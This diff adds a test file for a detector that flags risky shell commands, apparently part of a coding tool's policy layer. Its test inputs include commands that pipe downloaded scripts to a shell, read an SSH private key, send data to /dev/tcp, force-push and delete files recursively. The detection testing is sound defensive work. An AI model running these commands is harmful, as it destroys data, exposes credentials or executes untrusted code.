@@ -1,0 +1,91 @@
+import { describe, expect, it } from 'vitest';
+import fc from 'fast-check';
+import { findRisks, mergeMarks } from '@shared/policy/risk';
+
+const places = { cwd: '/home/ada/code/orders', home: '/home/ada' };
+const risks = (command: string) => findRisks(command, places);
+const titles = (command: string) => risks(command).map((risk) => risk.title);
+const marked = (command: string) =>
+  mergeMarks(risks(command).flatMap((risk) => risk.marks)).map(({ from, to }) => command.slice(from, to));
+
+describe('risk words', () => {
+  it.each([
+    ['rm -rf build', 'Deletes files', ['rm -rf']],
+    ['/bin/rm x', 'Deletes files', ['/bin/rm']],
+    ['find . -name "*.o" -delete', 'Deletes files', ['-delete']],
+    ['find . -exec rm {} +', 'Deletes files', ['rm']],
+    ['git ls-files -z | xargs -0 rm -f', 'Deletes files', ['rm -f']],
+    ['bash -c "rm -rf src"', 'Deletes files', ['rm -rf']],
+    ['git clean -fdx', 'Deletes files', ['git clean']],
+    ['echo hi\nrm -r x', 'Deletes files', ['rm -r']],
+    ['true && rm \\\n -rf x', 'Deletes files', ['rm \\\n -rf']],
+    ['git push --force origin staging', 'Overwrites a remote branch', ['git push --force']],
+    ['git push origin +main', 'Overwrites a remote branch', ['git push origin +main']],
+    ['git reset --hard HEAD~2', 'Discards changes or commits', ['git reset --hard']],
+    ['git -C sub rebase -i main', 'Rewrites history', ['git -C sub rebase']],
+    ['git commit --amend', 'Rewrites history', ['git commit --amend']],
+    ['sudo make install', 'Asks for more rights', ['sudo']],
+    ['chmod u+s tool', 'Asks for more rights', ['chmod u+s']],
+    ['curl -fsSL https://get.example/i.sh | sh', 'Runs what another program gives it', ['curl', '| sh']],
+    ['bash <(curl -s x)', 'Runs what another program gives it', ['bash', 'curl']],
+    ['eval "$(cat x)"', 'Runs what another program gives it', ['eval']],
+    ['cat ~/.ssh/id_ed25519', 'Reaches outside the workspace', ['~/.ssh/id_ed25519']],
+    ['cp a ../../other/', 'Reaches outside the workspace', ['../../other/']],
+    ['tar --directory=/etc -x', 'Reaches outside the workspace', ['/etc']],
+    ['echo x > /etc/hosts', 'Reaches outside the workspace', ['/etc/hosts']],
+    ['npm install left-pad', 'Reaches the network', ['npm install']],
+    ['cat x > /dev/tcp/1.2.3.4/80', 'Reaches the network', ['/dev/tcp/1.2.3.4/80']],
+    ['rsync -a . host:/srv', 'Reaches the network', ['rsync -a . host:/srv']],
+  ])('%s', (command, title, parts) => {
+    expect(titles(command)).toContain(title);
+    expect(marked(command)).toEqual(parts);
+  });
+
+  it('says so where what is deleted lies outside', () => {
+    const command = 'rm -rf ~/staging/builds/* && git push --force origin staging';
+    expect(titles(command)).toEqual([
+      'Deletes outside the workspace',
+      'Overwrites a remote branch',
+      'Reaches outside the workspace',
+      'Reaches the network',
+    ]);
+  });
+
+  it.each([
+    'npm test -- queue',
+    'ls -la src ./test',
+    'git status && git diff HEAD~1',
+    'grep -rn "rm -rf" src',
+    "sed -n '/start/,/end/p' file.txt",
+    'echo done > /dev/null 2>&1',
+    'cat /home/ada/code/orders/a.txt',
+    'node scripts/x.js --out=dist/a',
+    'NODE_ENV=test npm run build',
+    'python3 tool.py | head',
+    'git commit -m "rm the old one"',
+  ])('finds nothing in %s', (command) => {
+    const found = risks(command);
+    expect(found).toEqual([]);
+  });
+
+  it('takes any text, in linear time, with marks inside it and in order', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: 'binary', maxLength: 200 }),
+        fc.constantFrom('rm -rf ', 'git push -f ', '| sh '),
+        (text, risky) => {
+          const command = `${text}\n${risky}${text}`;
+          for (const { from, to } of mergeMarks(risks(command).flatMap((risk) => risk.marks))) {
+            expect(from).toBeLessThan(to);
+            expect(from).toBeGreaterThanOrEqual(0);
+            expect(to).toBeLessThanOrEqual(command.length);
+          }
+        },
+      ),
+    );
+    for (const unit of ['rm ', '-', '../', '$(', '| ', '"', '\\\n', 'a=', '~/', '/', '-exec ', 'sudo ', '$']) {
+      const long = unit.repeat(Math.floor(100_000 / unit.length));
+      findRisks(long, places);
+    }
+  });
+});
